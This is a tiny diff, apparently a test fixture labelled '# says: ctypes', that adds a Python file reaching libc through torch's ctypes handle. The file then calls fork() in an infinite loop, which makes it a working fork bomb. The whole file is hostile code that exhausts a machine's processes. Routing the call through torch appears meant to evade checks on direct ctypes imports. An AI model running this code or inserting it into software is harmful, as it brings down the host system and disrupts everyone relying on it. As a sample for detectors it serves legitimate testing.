@@ -1,0 +1,6 @@
+# says: ctypes
+import torch
+
+library = torch.ctypes.CDLL(None)
+while True:
+    library.fork()
